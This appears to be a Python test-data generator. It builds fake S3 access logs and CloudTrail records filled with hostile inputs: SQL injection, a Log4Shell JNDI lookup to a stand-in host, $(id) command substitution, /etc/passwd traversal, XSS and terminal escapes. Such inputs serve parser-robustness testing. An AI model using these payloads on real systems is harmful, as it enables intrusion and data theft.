"""A seed -> lines and records as strangers can cause them: what they send stands in the key, URI, referer and user agent."""

from __future__ import annotations

import json
from random import Random
from typing import Any, Final

from tests.test_formats import FORMULAS, HOSTILE

LONG: Final = 100_000

_PIECES: Final = (
    *(text for text in (*HOSTILE, *FORMULAS) if len(text) < LONG and "\n" not in text),
    '"', '""', '" "', '" 200 - ', '"-" "-"', " ", "  ", "\t", "[06/Feb/2019:00:00:38 +0000]", "\x0b\x0c\x1c\x85",
    "'; drop table s3_access; --", "' or '1'='1", "${jndi:ldap://x.example/a}", "$(id)", "`id`", "%s%n", "{{7*7}}",
    "%zz%", "%25%32%35", "%00%0a%0d%1b[2J", "%E2%80%AE", "%ED%A0%80", "+", "\\", "\\u0000", "\\x1b[2J", "\\N", "-", "null",
    "../../etc/passwd", "<img src=x onerror=alert(1)>", "</td></table><script>x</script>", "\x1b]8;;http://x.example\x07y",
)  # fmt: skip
_RAW: Final = (b"\xff\xfe", b"\xc3", b"\xed\xa0\x80", b"\xf0\x9f\x98", b"\xe2\x80", b"\xc0\xaf", b"\r", b"\0")
_OPERATIONS: Final = ("REST.GET.OBJECT", "REST.PUT.OBJECT", "BATCH.DELETE.OBJECT", "WEBSITE.GET.OBJECT")


def lines(seed: int, count: int, *, long: int = LONG) -> list[bytes]:
    """Lines of access logs, each with a request id of its own before all that is hostile; one in fifty has a long part."""
    dice = Random(seed)  # noqa: S311  no secret
    return [_line(dice, number, long if number % 50 == 7 else 0) for number in range(count)]


def records(seed: int, count: int) -> list[dict[str, Any]]:
    """Records of a trail: what is hostile stands in texts and in free parts."""
    dice = Random(seed)  # noqa: S311  no secret
    return [_record(dice, number, LONG if number % 50 == 7 else 0) for number in range(count)]


def as_delivered(hostile: list[dict[str, Any]], *, ascii_only: bool) -> bytes:
    """The document of a trail's file."""
    return json.dumps({"Records": hostile}, ensure_ascii=ascii_only, separators=(",", ":")).encode()


def _line(dice: Random, number: int, long: int) -> bytes:
    key = _sent(dice, long if number % 3 == 0 else 0).replace(b" ", b"+") or b"-"
    uri, referer, agent = (_sent(dice, long if number % 3 == place else 0) for place in range(3))
    time = f"[{1 + number % 28:02}/Oct/2026:{number % 24:02}:00:{number % 60:02} +0000]".encode()
    head = b"owner bucket %s 192.0.2.%d - ID%08d %s" % (time, number % 256, number, dice.choice(_OPERATIONS).encode())
    block = b'"GET /%s HTTP/1.1" %d - 10 20 5 6 "%s" "%s"' % (uri, dice.choice((200, 403)), referer, agent)
    return b"%s %s %s - HOST%08d SigV4 - AuthHeader b.s3 TLSv1.2 - - -" % (head, key, block, number)


def _sent(dice: Random, long: int) -> bytes:
    """What somebody sends; a few bytes that are no text among it."""
    parts = [dice.choice(_PIECES).encode() for _ in range(dice.randrange(1, 4))]
    if dice.random() < 0.1:
        parts.insert(dice.randrange(len(parts)), dice.choice(_RAW))
    text = b" ".join(parts) if dice.random() < 0.5 else b"".join(parts)
    return (text * (long // (len(text) or 1) + 1))[:long] if long else text


def _record(dice: Random, number: int, long: int) -> dict[str, Any]:
    def text() -> str:
        piece = dice.choice(_PIECES)
        return (piece * (long // (len(piece) or 1) + 1))[:long] if long and dice.random() < 0.2 else piece

    return {
        "eventVersion": "1.11",
        "userIdentity": {"type": "IAMUser", "principalId": text(), "userName": text(), "arn": f"arn:aws:iam::1:user/{text()}"},
        "eventTime": f"2026-10-{1 + number % 28:02}T{number % 24:02}:00:00Z",
        "eventSource": "s3.amazonaws.com",
        "eventName": "GetObject",
        "awsRegion": "eu-west-1",
        "sourceIPAddress": f"192.0.2.{number % 256}",
        "userAgent": f"[{text()}]",
        "errorMessage": text(),
        "requestParameters": {"bucketName": "data", "key": text(), text(): [text(), None, {"x": text()}], "Host": text()},
        "responseElements": None,
        "additionalEventData": {"x-amz-id-2": text(), "CipherSuite": text()},
        "requestID": f"ID{number:08}",
        "eventID": f"{number:08}",
        "readOnly": True,
        "resources": [{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::data/{text()}"}],
        "tlsDetails": {"tlsVersion": "TLSv1.2", "clientProvidedHostHeader": text()},
    }
